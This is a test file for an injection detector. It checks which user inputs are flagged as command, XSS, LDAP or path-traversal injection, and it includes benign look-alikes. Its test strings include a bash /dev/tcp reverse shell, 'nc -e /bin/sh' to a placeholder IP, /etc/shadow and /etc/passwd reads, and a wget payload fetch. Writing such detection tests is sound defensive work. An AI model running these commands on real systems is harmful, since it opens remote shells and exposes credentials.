import { describe, expect, it } from 'vitest';
import { InjectionDetector } from '../../src/security/injection-detector.js';
import { payloadAfterSeparator, payloadCommandAt, payloadIn } from '../../src/security/payload-command.js';
import { parameterAround, semicolonList } from '../../src/security/item-list.js';
import { fenceRunsCode, fencedBlockEnd, inlineCodeSpan } from '../../src/security/quoted-code.js';
import { carriersFlagging } from './carriers.js';

// forms8: the open evasions of the last session closed by class (payload commands in quoted code, fences standing alone,
// break-out literals in code spans), and the benign classes beside them. Values written for these tests.
const d = new InjectionDetector();
const carriers = (v: string) => carriersFlagging(d, v, true);
const ALL = ['query', 'form', 'json', 'raw'];

describe('a payload command runs whatever prose or quoting surrounds it', () => {
  it.each([
    // after a separator in a post that opens with a sentence
    'is it ok to run pwd && cat /etc/shadow',
    'how would i run date; whoami',
    'can someone explain ls | nc -e /bin/sh 198.51.100.4 9001',
    'why is dir & type c:\\boot\\win.ini slow',
    // in a backtick span of a sentence (a substitution in an unquoted or double-quoted shell)
    'hello team `id` bye',
    'please try `uname -a` and tell me',
    'my bio is `bash -i >& /dev/tcp/198.51.100.4/9001 0>&1` ok',
    // in a fence, at a line's start, with prose around it
    'hi\n```\nnet user\n```\nthanks',
    'log:\n```text\nok\nwhoami\n```\ndone',
  ])('reported: %s', (v) => {
    expect(carriers(v)).toEqual(ALL);
  });
  it.each([
    'is it safe to run ls && echo done',
    'I tried ls -la | wc -l and got 0',
    'Tried `ssh -i ~/.ssh/id_rsa me@host` as suggested',
    'curl -sSL https://get.example.com/install.sh | sh\n^ what the guide says, but it fails',
    'Why does `ping -c 4 192.0.2.1` hang?',
    'the `identity` column is null',
    'run `npm ci` then `npm test`, both pass',
  ])('clean: %s', (v) => {
    expect(carriers(v)).toEqual([]);
  });
  it('recognises probes, targets and their word boundaries', () => {
    expect(payloadCommandAt('id', 0, 2)).toBe(true);
    expect(payloadCommandAt('idea', 0, 4)).toBe(false);
    expect(payloadCommandAt(' whoami /all', 0, 12)).toBe(true);
    expect(payloadCommandAt('ssh -i key host', 0, 15)).toBe(false);
    expect(payloadCommandAt('sh -i x', 0, 7)).toBe(true);
    expect(payloadCommandAt('less /etc/passwd', 0, 16)).toBe(true);
    // the command line ends at a separator: a target after it is the next command's
    expect(payloadCommandAt('echo a; cat /etc/passwd', 0, 23)).toBe(false);
    expect(payloadAfterSeparator('echo a; cat /etc/passwd', 0, 23)).toBe(true);
    expect(payloadAfterSeparator('salt & pepper; thyme', 0, 20)).toBe(false);
    expect(payloadIn('ok\nid', 0, 5)).toBe(true);
  });
});

describe('a fence standing alone in its value is typed code', () => {
  it.each(['```\nhostname\n```', '```bash\nsleep 12\n```', '```\nping -n 20 127.0.0.1\n```'])('reported: %s', (v) => {
    expect(carriers(v)).toEqual(ALL);
  });
  it.each(['I ran\n```\nnpm ci\n```\nand it fails', '```js\nconst total = items.length;\n```\nwhy is this 0?'])('clean: %s', (v) => {
    expect(carriers(v)).toEqual([]);
  });
  it('alone: nothing before it, only spaces or line breaks after it, up to the value, parameter or JSON string end', () => {
    const a = '```\nls\n```';
    expect(fenceRunsCode(a, 0, fencedBlockEnd(a, 0))).toBe(true);
    const b = 'q=```\nls\n```\n&page=1';
    expect(fenceRunsCode(b, 2, fencedBlockEnd(b, 2))).toBe(true);
    const c = '```\nls\n```\nthat is all';
    expect(fenceRunsCode(c, 0, fencedBlockEnd(c, 0))).toBe(false);
  });
});

describe('code spans holding a break-out literal are not blanked', () => {
  it.each(['Node 18: `file:///etc/hostname` fails', 'error: `php://filter/resource=config.php` here', 'see `*)(mail=*` — why', 'PowerShell 5: `..\\..\\..\\boot.ini` fails'])('reported: %s', (v) => {
    expect(carriers(v)).toEqual(ALL);
  });
  it.each(['LDAP question: `(&(objectClass=person)(uid=ann))` returns nothing, any idea?', 'Why does `dir /b D:\\builds\\*.zip` list nothing?', 'the link `https://example.org/a/b` is broken'])(
    'clean: %s',
    (v) => {
      expect(carriers(v)).toEqual([]);
    },
  );
  it('a balanced filter is a span; one closing what it did not open is not', () => {
    const ok = 'try `(uid=ann)` here';
    expect(inlineCodeSpan(ok, ok.indexOf('`'))).toBe(ok.lastIndexOf('`'));
    const bad = 'try `ann)(uid=*` here';
    expect(inlineCodeSpan(bad, bad.indexOf('`'))).toBe(-1);
  });
});

describe('benign classes of forms8', () => {
  it.each([
    // a JavaScript sink opening a code span in a sentence: a literal followed by a name cannot parse
    'Is `eval(input)` ever a good idea here?',
    'Does `document.write` still work in 2027 browsers?',
    // an ampersand between words, a command word and one or two plain words after it
    'two eggs & less sugar',
    'salt & cat food',
  ])('clean: %s', (v) => {
    expect(carriers(v)).toEqual([]);
  });
  it.each(['hi `-alert(1)-` there', 'hi `;alert(document.domain)//` x', 'a & ping localhost', 'x & less /etc/passwd', 'note & sleep 30'])('reported: %s', (v) => {
    expect(carriers(v).length).toBeGreaterThan(0);
  });
});

describe('lists of items divided by `; ` start no command', () => {
  it.each([
    'Stack: Java; Node; Perl; Ruby on Rails; Git',
    'Tools I use: nmap; Wireshark; Burp Suite; Python',
    "Spellings: Kelly; Kelley; O'Kelly; Ó Ceallaigh",
    'Rooms: hall; lounge (5m x 4m); kitchen/diner; wc',
  ])('clean: %s', (v) => {
    expect(carriers(v)).toEqual([]);
  });
  it.each(['a; b; c; id', 'one; two; three; whoami', 'x; y; z; wget 198.51.100.4/s.sh', 'a; b; c; cat /etc/passwd', 'a; b; c; sleep 9', 'a; b; c; nc -l 4444', 'x;id;y;z'])('reported: %s', (v) => {
    expect(carriers(v)).toEqual(ALL);
  });
  it('reads the parameter holding the command, not the whole list of parameters', () => {
    expect(semicolonList('java; node; perl; git')).toBe(true);
    expect(semicolonList('java; node; perl')).toBe(false);
    expect(semicolonList('java; node; perl; git $(x)')).toBe(false);
    const q = 'q=java; node; perl; git&page=1';
    expect(parameterAround(q, q.indexOf('git'))).toEqual([2, q.indexOf('&')]);
  });
});
